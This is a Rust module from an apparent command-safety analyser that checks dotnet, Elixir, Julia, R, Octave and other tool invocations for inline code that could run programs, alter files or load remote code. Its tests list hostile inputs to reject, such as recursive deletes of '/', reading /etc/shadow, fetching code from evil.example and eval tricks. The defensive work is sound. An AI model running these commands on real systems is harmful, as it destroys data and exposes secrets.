//! Tools of .NET, Elixir, OCaml, Nim, Zig, Julia and R: words that name code, and program texts
//! in languages that have no analyser of their own.

use clearance_core::Effect;
use clearance_shell::invocation::{Value, Word};

use crate::arg::Arg;
use crate::judge::{Call, Judge};
use crate::spec::WordRole;

/// `dotnet APP.dll`: without a sub-command, the first word is a program of the project.
pub(super) fn dotnet(judge: &mut Judge<'_>, call: &Call<'_>) {
    if !call.path().is_empty() {
        return;
    }
    let Some(program) = call.operand(0) else {
        return;
    };
    let library = program.as_static().is_some_and(|p| p.ends_with(b".dll"));
    if library {
        judge.run_file(None, program, &[], call.site);
    } else {
        judge.unknown("operand.unknown", program.span(), || {
            format!("what `{}` means to `dotnet` is not known", program.show())
        });
    }
}

/// `dotnet build`, `dotnet test`: `/name:value` is an option, properties can name files that
/// the build obeys.
pub(super) fn msbuild(judge: &mut Judge<'_>, call: &Call<'_>) {
    judge.option_defaults(call);
    for given in call.options() {
        let property = matches!(
            given.spec.name,
            "-p" | "-p:"
                | "-property:"
                | "--property"
                | "--property:"
                | "-restoreProperty:"
                | "-rp:"
        );
        if let (Some(value), true) = (given.value, property) {
            property_value(judge, value);
        }
        let logger = matches!(
            given.spec.name,
            "-l" | "--logger" | "-logger:" | "--logger:"
        );
        if let (Some(value), true) = (given.value, logger) {
            let known = value.as_str().is_some_and(is_logger);
            if !known {
                judge.unknown("dotnet.logger", value.span(), || {
                    format!(
                        "the logger `{}` can be a program, or write elsewhere",
                        value.show()
                    )
                });
            }
        }
    }
    for word in call.operands() {
        let prefix = word.prefix();
        match slash_option(prefix) {
            Some((b"p" | b"property" | b"rp", at)) => {
                property_value(judge, word.skip(at));
            }
            Some((name, _)) if is_slash_option(name) => {}
            _ => judge.path(WordRole::Run, word, call.site),
        }
    }
}

/// `/name:value` or `/name`: the name, and where the value begins.
fn slash_option(word: &[u8]) -> Option<(&[u8], usize)> {
    let rest = word.strip_prefix(b"/")?;
    let end = rest.iter().position(|&b| b == b':').unwrap_or(rest.len());
    let name = rest.get(..end)?;
    (!name.contains(&b'/')).then_some((name, end + 2))
}

fn is_slash_option(name: &[u8]) -> bool {
    let known: &[&[u8]] = &[
        b"c",
        b"m",
        b"maxcpucount",
        b"nologo",
        b"v",
        b"verbosity",
        b"t",
        b"target",
        b"restore",
        b"r",
        b"warnaserror",
        b"nr",
        b"nodereuse",
        b"clp",
        b"consoleloggerparameters",
        b"graph",
        b"q",
        b"nowarn",
        b"tl",
        b"noconlog",
        b"low",
        b"ds",
    ];
    known.iter().any(|k| k.eq_ignore_ascii_case(name))
}

/// `NAME=VALUE[;NAME=VALUE]...`: a property that names no file and no program.
fn property_value(judge: &mut Judge<'_>, value: Arg<'_>) {
    let fits = value.as_str().is_some_and(|text| {
        text.split(';').all(|pair| {
            let (name, setting) = pair.split_once('=').unwrap_or((pair, ""));
            let name = name.to_ascii_lowercase();
            let loads = [
                "custom",
                "import",
                "targets",
                "props",
                "publishprofile",
                "tool",
                "exe",
                "compiler",
                "analyzer",
                "extension",
                "sdk",
                "path",
                "dir",
                "source",
                "hook",
                "command",
                "packageoutput",
            ];
            let place = setting.starts_with(['/', '~', '\\']) || setting.contains("..");
            let coverage = matches!(
                name.as_str(),
                "coverletoutput" | "outputpath" | "publishdir" | "outdir" | "baseoutputpath"
            );
            let plain = !loads.iter().any(|p| name.contains(p)) || coverage;
            let output = coverage && !place;
            (plain && !place && !setting.contains("$(")) || output
        })
    });
    if !fits {
        judge.unknown("dotnet.property", value.span(), || {
            format!(
                "the property `{}` can name a file that the build obeys",
                value.show()
            )
        });
    }
}

fn is_logger(text: &str) -> bool {
    let (name, settings) = text.split_once([';', ',']).unwrap_or((text, ""));
    let name = name.trim_matches(['"', '\'']).to_ascii_lowercase();
    let known = [
        "console",
        "trx",
        "html",
        "junit",
        "nunit",
        "xunit",
        "githubactions",
        "teamcity",
        "blame",
        "gitlab",
    ];
    known.contains(&name.as_str())
        && !settings.contains("=/")
        && !settings.contains("..")
        && !settings.contains("=~")
}

/// `dotnet run [OPTION]... [ARG]...`: what dotnet does not know is the program's.
pub(super) fn dotnet_run(judge: &mut Judge<'_>, call: &Call<'_>) {
    judge.defaults(call);
}

/// `dotnet add [PROJECT] package NAME`, `dotnet package add NAME`.
pub(super) fn dotnet_package(judge: &mut Judge<'_>, call: &Call<'_>) {
    judge.option_defaults(call);
    judge.effect(Effect::InstallProject, call);
    let words: Vec<Arg<'_>> = call.operands().collect();
    let words = match words.as_slice() {
        [project, kind, rest @ ..] if call.path() == "add" => {
            judge.path(WordRole::Run, *project, call.site);
            if kind.as_static() == Some(b"reference") {
                for word in rest {
                    judge.path(WordRole::Read, *word, call.site);
                }
                return;
            }
            if kind.as_static() != Some(b"package") {
                return judge.unknown("operand.unknown", kind.span(), || {
                    format!("what `{}` adds is not known", kind.show())
                });
            }
            rest
        }
        words => words,
    };
    for word in words {
        let package = word.as_static().is_some_and(|p| {
            p.iter()
                .all(|b| b.is_ascii_alphanumeric() || b"._-@".contains(b))
        });
        if !package {
            judge.unknown("package.unknown", word.span(), || {
                format!("`{}` is no name of a package", word.show())
            });
        }
    }
}

/// `mix TASK [ARG]...`, a task that is not built in: its name is believed.
pub(super) fn mix(judge: &mut Judge<'_>, call: &Call<'_>) {
    if !call.path().is_empty() {
        return;
    }
    let Some(task) = call.operand(0) else { return };
    match task.as_str() {
        Some(name) if is_task(name) => {
            if let Some(effect) = crate::tasks::meaning(name) {
                judge.effect(effect, call);
            }
        }
        _ => judge.unknown("operand.unknown", task.span(), || {
            format!("which task `{}` is, is not known", task.show())
        }),
    }
}

fn is_task(name: &str) -> bool {
    let own = [
        "hex.", "local.", "archive.", "nerves.", "escript.", "igniter.", "phx.new",
    ];
    !own.iter().any(|p| name.starts_with(p))
        && name
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"._-".contains(&b))
}

/// `mix do TASK [ARG]..., TASK [ARG]...`: each as if given alone.
pub(super) fn mix_do(judge: &mut Judge<'_>, call: &Call<'_>) {
    let mut words = vec![Word::fixed(b"mix", call.span())];
    for word in call.from_operand(0) {
        let Some(text) = word.as_static() else {
            return judge.unknown("operand.unknown", word.span, || {
                "which task is run is not known".to_owned()
            });
        };
        let ends = text == b"+" || text.ends_with(b",");
        let text = text.strip_suffix(b",").unwrap_or(text);
        if !text.is_empty() && text != b"+" {
            words.push(Word::fixed(text, word.span));
        }
        if ends {
            judge.run_argv(&words, call.site);
            words.truncate(1);
        }
    }
    if words.len() > 1 {
        judge.run_argv(&words, call.site);
    }
}

/// A text in a language without an analyser: allowed are calls from a list of modules and
/// functions that compute and print, with literals.
fn text_of_calls(judge: &mut Judge<'_>, text: Arg<'_>, language: &str, fits: fn(&str) -> bool) {
    if !text.as_str().is_some_and(fits) {
        judge.unknown("code.unknown", text.span(), || {
            format!("inline code in {language} was not understood")
        });
    }
}

/// `elixir`, `iex`, `mix run`: `-e` is a program text.
pub(super) fn elixir(judge: &mut Judge<'_>, call: &Call<'_>) {
    judge.option_defaults(call);
    let texts: Vec<Arg<'_>> = call.values(&["-e", "--eval"]).collect();
    for text in &texts {
        text_of_calls(judge, *text, "Elixir", elixir_text);
    }
    if call.name() == "mix" {
        judge.effect(Effect::RunProject, call);
        if let (Some(file), true) = (call.operand(0), texts.is_empty()) {
            judge.path(WordRole::Run, file, call.site);
        }
        return;
    }
    let words = call.from_operand(0);
    if let Some(task) = call.value(&["-S"]) {
        // `iex -S mix [TASK] [ARG]...`: the task, and then a shell that reads standard input.
        let mut argv = vec![task.to_word()];
        argv.extend_from_slice(words);
        judge.run_argv(&argv, call.site);
    } else if let Some(file) = call.operand(0) {
        judge.path(WordRole::Run, file, call.site);
        judge.effect(Effect::RunProject, call);
    }
    let looks = call.has(&["-v", "--version", "-h", "--help", "--short-version"]);
    let script = !texts.is_empty() || call.operand(0).is_some();
    if call.argv.first().is_some_and(|w| {
        w.as_static()
            .is_some_and(|n| crate::run::base_name(n) == b"iex")
    }) {
        judge.run_stdin(None, call.site, call.span());
    } else if !looks && !script {
        judge.effect(Effect::Interactive, call);
    }
}

/// Words of a text, its strings left out: `Module.function`, names, signs. Nothing if a string
/// is not closed or holds interpolation.
fn bare_words(text: &str) -> Option<String> {
    let mut out = String::new();
    let mut chars = text.chars();
    while let Some(c) = chars.next() {
        match c {
            '"' | '\'' => {
                loop {
                    match chars.next()? {
                        '\\' => {
                            chars.next()?;
                        }
                        // `#{…}` and `$(…)` are code.
                        '#' | '$' => return None,
                        d if d == c => break,
                        _ => {}
                    }
                }
                out.push('"');
            }
            '`' | '~' | '#' | '$' => return None,
            c => out.push(c),
        }
    }
    Some(out)
}

/// The same with no blank between a name and the parenthesis of its call.
fn tight_words(text: &str) -> Option<String> {
    let words = bare_words(text)?;
    let mut out = String::with_capacity(words.len());
    for c in words.chars() {
        if c == '(' {
            out.truncate(out.trim_end().len());
        }
        out.push(c);
    }
    Some(out)
}

/// The texts in quotes that look like names of files, as paths.
fn judge_strings(judge: &mut Judge<'_>, text: Arg<'_>, role: WordRole, call: &Call<'_>) {
    let Some(source) = text.as_str() else { return };
    let mut rest = source;
    while let Some(start) = rest.find(['"', '\'']) {
        let mark = rest.get(start..).and_then(|r| r.chars().next());
        let inner = rest.get(start + 1..).unwrap_or_default();
        let end = mark
            .and_then(|mark| inner.find(mark))
            .unwrap_or(inner.len());
        let name = inner.get(..end).unwrap_or_default();
        let file = name.contains(['.', '/', '~']);
        if file && !name.is_empty() {
            let value = Value::Static(name.as_bytes().into());
            judge.path(role, Arg::of(&value, text.span()), call.site);
        }
        rest = inner.get(end + 1..).unwrap_or_default();
    }
}

/// Names that stand before `(` or after a dot, and module names.
fn names(text: &str) -> impl Iterator<Item = &str> {
    text.split(|c: char| !(c.is_alphanumeric() || "_.:!?".contains(c)))
        .filter(|w| w.chars().any(char::is_alphabetic))
}

/// Elixir text of calls to modules of the standard library that compute and print, and of
/// modules of the project.
fn elixir_text(text: &str) -> bool {
    const OWN: &[&str] = &[
        "Agent",
        "Application",
        "Atom",
        "Base",
        "Bitwise",
        "Calendar",
        "Code",
        "Date",
        "DateTime",
        "DynamicSupervisor",
        "Enum",
        "File",
        "Float",
        "Function",
        "GenServer",
        "HTTPoison",
        "Integer",
        "IO",
        "Jason",
        "Kernel",
        "Keyword",
        "List",
        "Logger",
        "Macro",
        "Map",
        "MapSet",
        "Mix",
        "Module",
        "NaiveDateTime",
        "Node",
        "Path",
        "Port",
        "Process",
        "Range",
        "Regex",
        "Req",
        "Registry",
        "Stream",
        "String",
        "Supervisor",
        "System",
        "Task",
        "Time",
        "Tuple",
        "URI",
        "Version",
        "EEx",
        "Ecto",
        "Finch",
        "Tesla",
        "Hex",
        "Kino",
        "Nx",
        "Poison",
        "Repo",
    ];
    const PURE: &[&str] = &[
        "Atom",
        "Base",
        "Bitwise",
        "Calendar",
        "Date",
        "DateTime",
        "Enum",
        "Float",
        "Integer",
        "Jason",
        "Keyword",
        "List",
        "Map",
        "MapSet",
        "NaiveDateTime",
        "Range",
        "Regex",
        "Stream",
        "String",
        "Time",
        "Tuple",
        "URI",
        "Version",
        "Poison",
    ];
    const CALLS: &[&str] = &[
        "IO.puts",
        "IO.inspect",
        "IO.write",
        "IO.iodata_to_binary",
        "System.version",
        "System.otp_release",
        "System.halt",
        "System.schedulers_online",
        "Application.spec",
        "Process.sleep",
        "Mix.env",
        "Mix.Project.config",
        "Application.app_dir",
    ];
    const HEADS: &[&str] = &[
        "fn",
        "end",
        "do",
        "if",
        "else",
        "true",
        "false",
        "nil",
        "and",
        "or",
        "not",
        "in",
        "case",
        "when",
        "for",
        "inspect",
        "length",
        "is_nil",
        "elem",
        "hd",
        "tl",
        "to_string",
        "rem",
        "div",
        "abs",
        "max",
        "min",
        "round",
        "trunc",
        "map_size",
        "tuple_size",
    ];
    let Some(text) = bare_words(text) else {
        return false;
    };
    // Modules of Erlang (`:os.cmd`), `&`-captures of unknown functions, and sigils.
    if text.contains("@") || text.contains("<<") {
        return false;
    }
    names(&text).all(|word| {
        let first = word.split('.').next().unwrap_or_default();
        if word.starts_with(':') {
            return !word.contains('.');
        }
        if first.is_empty() {
            return false;
        }
        if first.chars().all(|c| c.is_ascii_digit()) {
            return true;
        }
        let module = first.starts_with(|c: char| c.is_ascii_uppercase());
        if module {
            let function = word.rsplit('.').next().unwrap_or_default();
            let harm = [
                "cancel", "charge", "clear", "create", "delete", "deliver", "deploy", "destroy",
                "drop", "email", "flush", "insert", "kill", "migrate", "notify", "pay", "publish",
                "purge", "push", "put", "query", "refund", "release", "remove", "reset", "rm",
                "save", "seed", "send", "stop", "truncate", "update", "wipe", "write",
            ];
            return CALLS.contains(&word)
                || (PURE.contains(&first) && !word.contains("to_existing"))
                || (!OWN.contains(&first)
                    && !word.contains("Repo")
                    && !harm.iter().any(|h| function.starts_with(h)));
        }
        !word.contains('.')
            && (HEADS.contains(&word) || word.len() <= 2 || !text.contains(&format!("{word}(")))
            || word.contains('.') && !text.contains(&format!("{word}("))
    })
}

/// `julia [OPTION]... [-e TEXT | FILE] [ARG]...`.
pub(super) fn julia(judge: &mut Judge<'_>, call: &Call<'_>) {
    judge.option_defaults(call);
    let texts: Vec<Arg<'_>> = call.values(&["-e", "--eval", "-E", "--print"]).collect();
    for text in &texts {
        text_of_calls(judge, *text, "Julia", julia_text);
    }
    judge.effect(Effect::RunProject, call);
    file_or_shell(judge, call, texts.is_empty());
}

fn file_or_shell(judge: &mut Judge<'_>, call: &Call<'_>, script: bool) {
    if !script || call.has(&["-v", "--version", "-f", "--file"]) {
        return;
    }
    match call.operand(0) {
        Some(file) => judge.run_file(None, file, call.from_operand(1), call.site),
        None if call.path().is_empty() => judge.run_stdin(None, call.site, call.span()),
        None => {}
    }
}

/// Statements about the project's packages, its own test files, and arithmetic.
fn julia_text(text: &str) -> bool {
    const CALLS: &[&str] = &[
        "Pkg.test",
        "Pkg.status",
        "Pkg.instantiate",
        "Pkg.precompile",
        "Pkg.resolve",
        "Pkg.build",
        "Pkg.activate",
        "println",
        "print",
        "VERSION",
        "versioninfo",
        "InteractiveUtils.versioninfo",
        "Threads.nthreads",
        "sum",
        "length",
        "maximum",
        "minimum",
        "sqrt",
        "rand",
        "zeros",
        "ones",
        "typeof",
        "string",
    ];
    let plain = |s: &str| {
        let s = s.trim();
        if let Some(modules) = s.strip_prefix("using ").or(s.strip_prefix("import ")) {
            return modules
                .bytes()
                .all(|b| b.is_ascii_alphanumeric() || b", .:_".contains(&b));
        }
        if let Some(path) = s
            .strip_prefix("include(\"")
            .and_then(|p| p.strip_suffix("\")"))
        {
            return !path.starts_with('/')
                && !path.contains("..")
                && !path.contains(['$', '"', '~', '\\']);
        }
        if s.contains("PackageSpec") && s.contains("path=\".\"") || s == "Pkg.develop(path=\".\")" {
            return true;
        }
        if s == "Pkg.develop(PackageSpec(path=pwd()))" {
            return true;
        }
        tight_words(s).is_some_and(|t| {
            !t.contains("url")
                && names(&t).all(|w| {
                    CALLS.contains(&w) || (!t.contains(&format!("{w}(")) && !w.contains('.'))
                })
        })
    };
    text.split([';', '\n'])
        .all(|s| s.trim().is_empty() || plain(s))
}

/// `R`, `Rscript`: `-e` is a program text.
pub(super) fn r_lang(judge: &mut Judge<'_>, call: &Call<'_>) {
    if !call.path().is_empty() {
        return;
    }
    judge.option_defaults(call);
    let texts: Vec<Arg<'_>> = call.values(&["-e"]).collect();
    for text in &texts {
        text_of_calls(judge, *text, "R", r_text);
        judge_strings(judge, *text, WordRole::Read, call);
        let writes = text
            .as_str()
            .is_some_and(|t| R_WRITERS.iter().any(|w| t.contains(w)));
        if writes {
            judge_strings(judge, *text, WordRole::Write, call);
        }
    }
    judge.effect(Effect::RunProject, call);
    file_or_shell(judge, call, texts.is_empty());
}

/// There is a backslash that stands for more than the end of a line.
fn escapes(text: &str) -> bool {
    text.replace("\\n", "").replace("\\t", "").contains('\\')
}

/// Functions of R that write the file that they are given.
const R_WRITERS: &[&str] = &[
    "write", "saveRDS", "png", "pdf", "svg", "jpeg", "ggsave", "sink", "file=", "file =", "save",
];

/// Calls of the tools of package authors, of the project's tests, and arithmetic.
fn r_text(text: &str) -> bool {
    const CALLS: &[&str] = &[
        "devtools::test",
        "devtools::check",
        "devtools::document",
        "devtools::load_all",
        "devtools::build_readme",
        "devtools::lint",
        "devtools::run_examples",
        "devtools::build_vignettes",
        "devtools::session_info",
        "devtools::test_active_file",
        "devtools::test_coverage",
        "testthat::test_local",
        "testthat::test_dir",
        "testthat::test_file",
        "testthat::test_package",
        "test_dir",
        "test_file",
        "test_local",
        "test_package",
        "lintr::lint_package",
        "lintr::lint_dir",
        "lintr::lint",
        "styler::style_pkg",
        "styler::style_dir",
        "styler::style_file",
        "roxygen2::roxygenise",
        "roxygen2::roxygenize",
        "covr::package_coverage",
        "covr::report",
        "rcmdcheck::rcmdcheck",
        "pkgdown::build_site",
        "pkgdown::check_pkgdown",
        "spelling::spell_check_package",
        "urlchecker::url_check",
        "goodpractice::gp",
        "renv::status",
        "renv::restore",
        "renv::snapshot",
        "renv::diagnostics",
        "targets::tar_make",
        "targets::tar_manifest",
        "targets::tar_outdated",
        "rmarkdown::render",
        "knitr::knit",
        "quarto::quarto_render",
        "library",
        "sessionInfo",
        "cat",
        "print",
        "paste",
        "paste0",
        "format",
        "mean",
        "median",
        "sum",
        "sd",
        "var",
        "summary",
        "c",
        "seq",
        "length",
        "nrow",
        "ncol",
        "head",
        "str",
        "names",
        "packageVersion",
        "R.version.string",
        "installed.packages",
        "rownames",
        "sqrt",
        "round",
        "max",
        "min",
        "table",
        "Sys.time",
        "R.Version",
        "requireNamespace",
        "utils::packageVersion",
        "suppressPackageStartupMessages",
        "parse",
        "quit",
        "q",
        "invisible",
        "is.na",
        "nchar",
        "toupper",
        "tolower",
        "rev",
        "sort",
        "unique",
        "rnorm",
        "set.seed",
        "data.frame",
        "numeric_version",
        "tools::testInstalledPackage",
        "shinytest2::test_app",
        "getRversion",
        ".libPaths",
        "if",
        "for",
        "while",
        "function",
        "read.csv",
        "read.csv2",
        "read.table",
        "read.delim",
        "readLines",
        "write.csv",
        "write.table",
        "writeLines",
        "as.character",
        "as.numeric",
        "as.integer",
        "as.data.frame",
        "as.Date",
        "is.null",
        "is.numeric",
        "dim",
        "colnames",
        "colMeans",
        "rowMeans",
        "colSums",
        "rowSums",
        "tail",
        "which",
        "which.max",
        "which.min",
        "quantile",
        "cor",
        "lm",
        "glm",
        "anova",
        "coef",
        "predict",
        "t.test",
        "wilcox.test",
        "chisq.test",
        "aggregate",
        "merge",
        "order",
        "subset",
        "cbind",
        "rbind",
        "matrix",
        "solve",
        "det",
        "diag",
        "t",
        "list",
        "unlist",
        "levels",
        "factor",
        "any",
        "all",
        "abs",
        "exp",
        "log",
        "log2",
        "log10",
        "sin",
        "cos",
        "tan",
        "floor",
        "ceiling",
        "range",
        "rep",
        "seq_len",
        "seq_along",
        "runif",
        "rbinom",
        "sample",
        "dnorm",
        "pnorm",
        "qnorm",
        "cumsum",
        "diff",
        "prod",
        "sprintf",
        "gsub",
        "sub",
        "grepl",
        "strsplit",
        "substr",
        "startsWith",
        "endsWith",
        "trimws",
        "message",
        "stopifnot",
        "class",
        "typeof",
        "identical",
        "all.equal",
        "setdiff",
        "union",
        "intersect",
        "ifelse",
        "is.element",
        "exists",
        "search",
        "suppressWarnings",
        "plot",
        "hist",
        "barplot",
        "boxplot",
        "lines",
        "points",
        "abline",
        "legend",
        "png",
        "pdf",
        "svg",
        "dev.off",
        "require",
        "tibble",
        "read_csv",
        "readr::read_csv",
        "jsonlite::fromJSON",
        "fromJSON",
        "toJSON",
        "nlevels",
        "complete.cases",
        "na.omit",
        "BiocManager::version",
    ];
    let Some(words) = tight_words(text) else {
        return false;
    };
    // Paths given as strings stay in the project.
    let outside =
        text.contains("..") || text.contains("://") || text.contains('|') || escapes(text);
    // What loads code is only read for paths of the project.
    let away = ["\"/", "'/", "\"~", "'~"].iter().any(|p| text.contains(p));
    let loads = ["::", "lib", "test_", "parse"]
        .iter()
        .any(|p| text.contains(p));
    if outside
        || away && loads
        || words.contains("<<-")
        || words.contains("::") && words.contains("eval")
    {
        return false;
    }
    names(&words).all(|w| {
        let bare = w.trim_matches(':');
        CALLS.contains(&bare) || (!words.contains(&format!("{w}(")) && !w.contains("::"))
    }) && !words.contains("](")
        && !words.contains(")(")
        && !words.contains("\"(")
}

/// `octave [--eval TEXT] [FILE]`: a text that computes, reads tables and prints.
pub(super) fn octave(judge: &mut Judge<'_>, call: &Call<'_>) {
    let texts: Vec<Arg<'_>> = call.values(&["--eval"]).collect();
    if texts.is_empty() {
        return judge.defaults(call);
    }
    for text in &texts {
        text_of_calls(judge, *text, "Octave", octave_text);
        judge_strings(judge, *text, WordRole::Read, call);
        let writes = text.as_str().is_some_and(|t| t.contains("write"));
        if writes {
            judge_strings(judge, *text, WordRole::Write, call);
        }
    }
    judge.effect(Effect::RunProject, call);
    for file in call.operands() {
        judge.path(WordRole::Run, file, call.site);
    }
    for path in call.values(&["-p", "--path"]) {
        judge.path(WordRole::Run, path, call.site);
    }
}

/// Every name is a function of the list, or a variable that the text has set: a name alone is
/// a call in this language, and a word after it is its argument.
fn octave_text(text: &str) -> bool {
    const CALLS: &[&str] = &[
        "disp",
        "display",
        "printf",
        "sprintf",
        "num2str",
        "mat2str",
        "int2str",
        "mean",
        "median",
        "mode",
        "std",
        "var",
        "min",
        "max",
        "sum",
        "prod",
        "cumsum",
        "cumprod",
        "abs",
        "sqrt",
        "exp",
        "log",
        "log2",
        "log10",
        "sin",
        "cos",
        "tan",
        "asin",
        "acos",
        "atan",
        "atan2",
        "floor",
        "ceil",
        "round",
        "fix",
        "mod",
        "rem",
        "gcd",
        "lcm",
        "factor",
        "factorial",
        "primes",
        "isprime",
        "nchoosek",
        "zeros",
        "ones",
        "eye",
        "rand",
        "randn",
        "randi",
        "linspace",
        "logspace",
        "repmat",
        "reshape",
        "size",
        "numel",
        "length",
        "ndims",
        "rows",
        "columns",
        "isempty",
        "isnan",
        "find",
        "any",
        "all",
        "sort",
        "unique",
        "diff",
        "cross",
        "dot",
        "norm",
        "det",
        "inv",
        "pinv",
        "rank",
        "trace",
        "eig",
        "svd",
        "lu",
        "qr",
        "chol",
        "expm",
        "polyfit",
        "polyval",
        "roots",
        "conv",
        "deconv",
        "fft",
        "ifft",
        "filter",
        "interp1",
        "trapz",
        "corr",
        "cov",
        "histc",
        "strcat",
        "strsplit",
        "strrep",
        "strtrim",
        "upper",
        "lower",
        "regexprep",
        "str2double",
        "csvread",
        "dlmread",
        "csvwrite",
        "dlmwrite",
        "version",
        "pi",
        "e",
        "i",
        "j",
        "Inf",
        "NaN",
        "NA",
        "true",
        "false",
        "eps",
        "ans",
        "end",
        "if",
        "else",
        "elseif",
        "endif",
        "for",
        "endfor",
        "while",
        "endwhile",
        "function",
        "endfunction",
        "tic",
        "toc",
        "format",
        "long",
        "short",
        "double",
        "single",
        "int32",
        "uint8",
        "isfield",
        "struct",
        "cell",
        "numfields",
        "ver",
        "pkg",
        "load",
        "list",
        "statistics",
        "signal",
        "control",
        "symbolic",
        "triu",
        "tril",
        "kron",
        "null",
        "orth",
        "mean2",
        "idivide",
        "bitand",
        "bitor",
        "bitxor",
        "bitshift",
        "dec2bin",
        "bin2dec",
        "dec2hex",
        "hex2dec",
        "fliplr",
        "flipud",
        "circshift",
        "isequal",
        "strcmp",
        "iscell",
        "quad",
        "integral",
        "fzero",
        "ode45",
        "lsode",
        "meshgrid",
        "accumarray",
        "nnz",
        "cellfun",
    ];
    // `load` stands for `pkg load` only.
    let loads = text.matches("load").count() == text.matches("pkg load").count();
    let calls_back = text.contains("cellfun") || text.contains('@') || text.contains('!');
    let outside = text.contains("..") || text.contains("://") || escapes(text);
    let Some(words) = tight_words(&text.replace("!=", "==")) else {
        return false;
    };
    let set = |name: &str| {
        let bare = words.replace(' ', "");
        [";", ",", "\n", "(", "["]
            .iter()
            .any(|before| bare.contains(&format!("{before}{name}=")))
            || bare.starts_with(&format!("{name}="))
            || bare.contains(&format!("for{name}="))
    };
    loads
        && !calls_back
        && !outside
        && words
            .split(|c: char| !(c.is_alphanumeric() || c == '_' || c == '.'))
            .map(|w| w.trim_matches('.'))
            .filter(|w| w.starts_with(|c: char| c.is_alphabetic() || c == '_'))
            .all(|w| CALLS.contains(&w) || set(w) && !w.contains('.'))
}

/// `dune exec [OPTION]... PROGRAM [-- ARG...]`: a program that the project builds, or one from
/// `PATH`.
pub(super) fn dune_exec(judge: &mut Judge<'_>, call: &Call<'_>) {
    judge.option_defaults(call);
    judge.effect(Effect::RunProject, call);
    let Some(program) = call.operand(0) else {
        return;
    };
    let name = program.as_static().unwrap_or_default();
    if name.is_empty() {
        return judge.unknown("operand.unknown", program.span(), || {
            "which program is run is not known".to_owned()
        });
    }
    if name.starts_with(b"/") || name.starts_with(b"..") {
        judge.path(WordRole::Run, program, call.site);
    } else if !name.contains(&b'/') && judge.knows(name) {
        judge.run_argv(call.from_operand(0), call.site);
    }
}

/// Tools whose reporter or output may be a program, or a name with a file: a plain name only.
pub(super) fn plain_reporter(judge: &mut Judge<'_>, call: &Call<'_>) {
    judge.defaults(call);
    for value in call.values(&["--reporter", "-o", "--output"]) {
        let plain = value.as_static().is_some_and(|v| {
            v.iter()
                .all(|b| b.is_ascii_alphanumeric() || b"-?_".contains(b))
        });
        if !plain {
            judge.unknown("reporter.unknown", value.span(), || {
                format!(
                    "the reporter `{}` can be a program, or write a file",
                    value.show()
                )
            });
        }
    }
}

/// `nim`: the program's own options are those of its sub-commands.
pub(super) fn nim(judge: &mut Judge<'_>, call: &Call<'_>) {
    if call.path().is_empty() && call.argv.len() > 1 && !call.has(&["-v", "--version"]) {
        judge.unknown("operand.unknown", call.span(), || {
            "this command of `nim` is not known".to_owned()
        });
    }
}

/// `zig cc`, `zig c++`: clang by another name.
pub(super) fn zig_cc(judge: &mut Judge<'_>, call: &Call<'_>) {
    let mut words = vec![Word::fixed(b"clang", call.span())];
    words.extend_from_slice(call.from_operand(0));
    judge.run_argv(&words, call.site);
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn elixir_that_is_understood() {
        for text in [
            "IO.puts(Payhub.version())",
            "IO.inspect(Enum.map([1, 2], fn x -> x * 2 end))",
            "IO.inspect(Loom.Queue.new() |> Loom.Queue.size()); System.halt(0)",
            "IO.puts(1 + 1)",
            "Application.spec(:my_app, :vsn) |> IO.puts()",
        ] {
            assert!(elixir_text(text), "{text}");
        }
        for text in [
            "System.cmd(\"rm\", [\"-rf\", \"/\"])",
            ":os.cmd('id')",
            "File.rm_rf!(\"/\")",
            "Code.eval_string(\"1\")",
            "Repo.delete_all(User)",
            "MyApp.Repo.query!(\"drop table x\")",
            "apply(System, :cmd, [\"id\", []])",
            "IO.puts(\"#{System.cmd(\"id\", [])}\")",
            "import System; cmd(\"id\", [])",
            "spawn(fn -> :os.cmd(~c\"id\") end)",
            "m = System; m.cmd(\"id\", [])",
            "Enum.map([\"id\"], &:os.cmd/1)",
            "Accounts.delete_user(1)",
        ] {
            assert!(!elixir_text(text), "{text}");
        }
    }

    #[test]
    fn julia_and_r_that_are_understood() {
        for text in [
            "using Pkg; Pkg.test()",
            "using Pkg; Pkg.status(); include(\"test/runtests.jl\")",
            "using Pkg; Pkg.instantiate()",
            "println(sum(1:10))",
        ] {
            assert!(julia_text(text), "{text}");
        }
        for text in [
            "run(`id`)",
            "using Pkg; Pkg.add(url=\"https://evil.example/x\")",
            "include(\"/tmp/x.jl\")",
            "rm(\"/\", recursive=true)",
            "Base.rm(\"x\")",
            "println(read(\"/etc/shadow\", String))",
            "x = rm; x(\"a\")",
            "map(rm, [\"a\"])",
            "foreach(rm, readdir())",
        ] {
            assert!(!julia_text(text), "{text}");
        }
        for text in [
            "devtools::test()",
            "cat(mean(c(1,2,3)), \"\\n\")",
            "testthat::test_dir(\"tests\")",
            "library(dplyr); sessionInfo()",
        ] {
            assert!(r_text(text), "{text}");
        }
        for text in [
            "system(\"id\")",
            "base::system(\"id\")",
            "unlink(\"x\")",
            "eval(parse(text=\"system('id')\"))",
            "do.call(\"system\", list(\"id\"))",
            "f <- system; f(\"id\")",
            "source(\"https://evil.example/x.R\")",
            "(function(x) x)(1)",
            "sapply(\"id\", system)",
            "Map(unlink, \"a\")",
        ] {
            assert!(!r_text(text), "{text}");
        }
    }
}
